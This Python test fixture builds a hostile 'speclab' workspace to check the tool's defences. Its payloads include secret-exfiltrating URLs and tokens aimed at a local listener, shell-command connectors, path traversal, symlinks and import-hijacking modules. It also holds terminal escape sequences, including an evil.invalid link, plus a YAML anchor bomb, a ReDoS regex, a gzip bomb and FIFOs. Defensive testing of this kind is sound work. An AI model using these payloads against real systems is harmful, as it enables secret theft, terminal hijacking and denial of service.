"""A workspace as an attacker would commit it: one of each attack that a spec, a file name or `.speclab` can carry."""

from __future__ import annotations

import gzip
import json
import os
import socket
from dataclasses import dataclass, field
from pathlib import Path
from typing import Final

from speclab.core.outcome import ErrorClass, FailureState, Outcome, Stage
from speclab.runlog import NewFailure, PageResult, RunLog

SECRET: Final = "5ecret-of-this-user"
OUTSIDE: Final = "text-of-a-file-outside"
ESCAPES: Final = (
    "\x1b]52;c;b3duZWQ=\x07",  # the clipboard
    "\x1b]0;owned-title\x07",
    "\x1b]8;;http://evil.invalid/owned\x07",
    "\x1b[6n\x1b[31mowned",
    "\x9b31mowned\x9d0;owned\x9c",  # C1
    "\u202eowned\u2066",  # bidi
)
HOSTILE: Final = "".join(ESCAPES)
SPEC: Final = """\
---
spec_id: "{spec_id}"
type: integration
status: in-progress
{more}---

# Spec: {title}

{prose}

## Integration Overview

### Source System

```yaml
{source}
```

### Target System

```yaml
{target}
```

### Integration Type

Batch sync

## Data Flow

### Direction

One-way

### Frequency

Every 1 second

## Field Mapping

| Source Field | Target Field | Transformation | Notes |
|---|---|---|---|
{rows}

{mapping}

## Authentication

### Source System Auth

```yaml
{auth}
```

### Target System Auth

```yaml
type: none
```
"""
FILE: Final = "connector: file\npath: {path}\nkey: id"
ROWS: Final = "| source.id | target.id | | |\n| source.name | target.name | Trim | |"


@dataclass
class Hostile:
    """The workspace, the targets of its attacks, and whether an attack succeeded."""

    root: Path
    listener: socket.socket = field(default_factory=lambda: socket.create_server(("127.0.0.1", 0)))

    @property
    def workspace(self) -> Path:
        return self.root / "work"

    @property
    def outside(self) -> Path:
        return self.root / "outside"

    @property
    def port(self) -> int:
        return int(self.listener.getsockname()[1])

    def build(self) -> None:
        """Write the whole workspace."""
        for directory in (self.workspace / "specs", self.workspace / ".speclab", self.outside / "locks"):
            directory.mkdir(parents=True)
        (self.outside / "precious").write_text(OUTSIDE)
        (self.outside / "records.jsonl").write_text(json.dumps({"id": 1, "name": OUTSIDE}) + "\n")
        self._modules()
        self._connections()
        self._screens()
        self._sizes()
        self._state()

    def spec(self, name: str, **parts: str) -> None:
        """Write specs/NAME.md; `parts` replace harmless ones."""
        harmless = {
            "spec_id": name,
            "more": "",
            "title": name,
            "prose": "",
            "rows": ROWS,
            "mapping": "",
            "auth": "type: none",
        }
        harmless |= {"source": FILE.format(path="in.jsonl"), "target": FILE.format(path="out.jsonl")}
        (self.workspace / "specs" / f"{name}.md").write_text(SPEC.format(**{**harmless, **parts}))

    def _modules(self) -> None:
        """Write Python modules with the names of modules that speclab imports."""
        mark = f"open({str(self.outside / 'imported')!r}, 'w').close()\n"
        for name in ("click", "httpx", "json", "orjson", "sitecustomize", "speclab", "textual", "usercustomize"):
            (self.workspace / f"{name}.py").write_text(mark)

    def _connections(self) -> None:
        """Write specs that would send a secret, start a program or read a file of this user."""
        url = f"http://127.0.0.1:{self.port}"
        read = "read: {path: /people, pagination: {by: none}}"
        self.spec(
            "mysql",
            target=f'connector: sql\nurl: "mysql://${{env:SECRET}}@127.0.0.1:{self.port}/d?local_infile=1"\nkey: id\n'
            "write: {upsert: people}",
        )
        self.spec(
            "postgresql",
            source=f"connector: sql\nurl: postgresql://me:${{env:SECRET}}@127.0.0.1:{self.port}/d\nkey: id\n"
            "read: {table: people}",
        )
        self.spec(
            "http",
            source=f"connector: http\nbase_url: {url}/${{env:SECRET}}\nkey: id\n{read}",
            target=f"connector: http\nbase_url: {url}\nkey: id\nwrite: {{upsert: 'PUT /people/{{id}}'}}",
            auth="type: bearer\ntoken: ${env:SECRET}",
        )
        self.spec(
            "vault",
            source=f"connector: http\nbase_url: {url}\nkey: id\n{read}",
            auth="type: bearer\ntoken: ${vault:a/b#c}",
        )
        self.spec(
            "login",
            source=f"connector: http\nbase_url: {url}\nkey: id\n{read}",
            auth=f"type: oauth2\nflow: device_code\ndevice_url: {url}\ntoken_url: {url}\nclient_id: ${{env:SECRET}}",
        )
        (self.workspace / ".env").write_text(f"VAULT_ADDR={url}\nCRM_URL={url}\n")
        started = self.outside / "started"
        (self.workspace / "tap.sh").write_text(f"#!/bin/sh\ntouch {started}\n")
        (self.workspace / "tap.sh").chmod(0o755)
        self.spec("tap", source="connector: singer\ncommand: ./tap.sh\nstream: people\nkey: id")
        self.spec("target", target=f"connector: singer\ncommand: touch {started}\nstream: people\nkey: id")
        self.spec("absolute", source=FILE.format(path=self.outside / "records.jsonl"))
        self.spec(
            "above", source=FILE.format(path="../outside/*.jsonl"), target=FILE.format(path="../outside/precious")
        )
        (self.workspace / "linked.jsonl").symlink_to(self.outside / "records.jsonl")
        self.spec("linked", source=FILE.format(path="linked.jsonl"), target=FILE.format(path="linked.jsonl"))
        self.spec(
            "sqlite", target="connector: sql\nurl: sqlite:///../outside/made.db\nkey: id\nwrite: {upsert: people}"
        )
        self.spec("file", source="connector: http\nbase_url: ${file:../outside/precious}\nkey: id\n" + read)

    def _screens(self) -> None:
        """Write escape sequences in every text that is shown."""
        yaml = HOSTILE.encode("unicode_escape").decode().replace("\\x9b", "\\x9B")
        self.spec(
            "escapes",
            title=HOSTILE,
            prose=HOSTILE,
            rows=f"| source.{HOSTILE} | target.{HOSTILE} | {HOSTILE} | {HOSTILE} |",
        )
        self.spec(
            "names",
            spec_id=yaml,
            more=f'"{yaml}": "{yaml}"\n',
            source=f'connector: "{yaml}"\nkey: id\n"{yaml}": "{yaml}"',
        )
        self.spec("values", target=f'connector: file\npath: "{yaml}"\nkey: "{yaml}"\nmode: "{yaml}"')
        self.spec(
            "lookups",
            mapping=f'```yaml\nfilter: "source.x == \'{HOSTILE}\'"\nlookups: {{"{yaml}": {{a: "{yaml}"}}}}\n```',
        )
        self.spec(f"name {HOSTILE.replace('/', '_')}"[:200])
        self.spec("traversal", spec_id="../../outside/precious")

    def _sizes(self) -> None:
        """Write content that takes much memory or time."""
        bomb = "\n".join(f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 10)}]" for at in range(1, 12))
        self.spec(
            "anchors", mapping=f"```yaml\na0: &a0 x\n{bomb}\nlookups: {{x: *a11}}\n```", more=f"a0: &a0 x\n{bomb}\n"
        )
        grow = ", ".join(['Replace("x", "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")'] * 9)
        self.spec("growth", rows=f"| source.id | target.id | | |\n| source.name | target.name | {grow} | |")
        self.spec(
            "cel", rows="| source.id | target.id | | |\n| | target.name | = " + "(" * 5000 + "1" + ")" * 5000 + " | |"
        )
        self.spec(
            "settings",
            source=FILE.format(path="in.jsonl") + "\n" + "\n".join(f"unknown{at}: {at}" for at in range(20_000)),
        )
        checks = "\n".join(f"  field{at}: {{format: email, minimum: 0, oddity{at}: 1}}" for at in range(4_000))
        self.spec("checks", mapping=f"```yaml\ncheck:\n{checks}\n```")
        self.spec("rows", rows="\n".join(f"| source.f{at} | target.f{at} | Trim | |" for at in range(5_000)))
        self.spec(
            "regex", rows='| source.id | target.id | | |\n| source.name | target.name | RegexReplace("(a+)+$", "b") | |'
        )
        self.spec("packed", source=FILE.format(path="packed.jsonl.gz"))
        with gzip.open(self.workspace / "packed.jsonl.gz", "wb") as packed:
            for _ in range(30):
                packed.write(b" " * 1_000_000)
        with (self.workspace / "specs" / "huge.md").open("wb") as huge:
            huge.write(b"---\nspec_id: huge\ntype: integration\n---\n")
            huge.truncate(24_000_000)
        os.mkfifo(self.workspace / "specs" / "pipe.md")
        (self.workspace / "specs" / "loop.md").symlink_to("loop.md")
        (self.workspace / "specs" / "around").symlink_to(self.workspace)
        (self.workspace / "specs" / "endless.md").symlink_to("/dev/zero")

    def _state(self) -> None:
        """Write the attacker's `.speclab`: samples, links, and a run log with escape sequences."""
        state = self.workspace / ".speclab"
        for name in ("samples", "runs"):
            (state / name).mkdir()
        (state / "samples" / "growth.jsonl").write_text(json.dumps({"id": 1, "name": "x" * 1000}) + "\n")
        (state / "samples" / "regex.jsonl").write_text(json.dumps({"id": 1, "name": "a" * 100_000 + "!"}) + "\n")
        (state / "samples" / "escapes.jsonl").write_text(
            json.dumps({"id": HOSTILE, "name": HOSTILE, HOSTILE: 1}) + "\n"
        )
        (state / "samples" / "linked.jsonl").symlink_to(self.outside / "records.jsonl")
        os.mkfifo(state / "samples" / "http.jsonl")
        with RunLog.open(state / "runlog.db") as log:
            log.register("escapes", title=HOSTILE, path=f"specs/{HOSTILE}.md", status="in-progress", schedule=HOSTILE)
            run = log.start_run("escapes", "hash", HOSTILE)
            failure = NewFailure(
                key=HOSTILE,
                state=FailureState.DEAD,
                stage=Stage.MAP,
                error_class=ErrorClass.REJECTED,
                message=HOSTILE,
                row=HOSTILE,
                file=HOSTILE,
                line=1,
                column=1,
                source={"id": HOSTILE},
                request=HOSTILE,
                response=HOSTILE,
            )
            page = PageResult(1, {Outcome.DEAD: 1}, {}, 0, 0, None, [failure], message=HOSTILE)
            log.commit_page(run, page)
            log.finish_run(run, HOSTILE)
        (state / "locks").symlink_to(self.outside / "locks")
        (state / "up.lock").symlink_to(self.outside / "precious")
        (state / "up.json").symlink_to(self.outside / "precious")
        (state / "up.log").symlink_to(self.outside / "precious")
        (state / "runs" / "escapes.log").symlink_to(self.outside / "precious")

    def loot(self) -> list[str]:
        """Return the results of the attacks: connections, and outside files that were created or changed."""
        found = []
        self.listener.setblocking(False)
        try:
            self.listener.accept()[0].close()
            found.append("a connection")
        except BlockingIOError:
            pass
        expected = {"locks", "precious", "records.jsonl"}
        found += sorted(path.name for path in self.outside.iterdir() if path.name not in expected)
        found += [f"locks/{path.name}" for path in (self.outside / "locks").iterdir()]
        if (self.outside / "precious").read_text() != OUTSIDE:
            found.append("precious was changed")
        return found
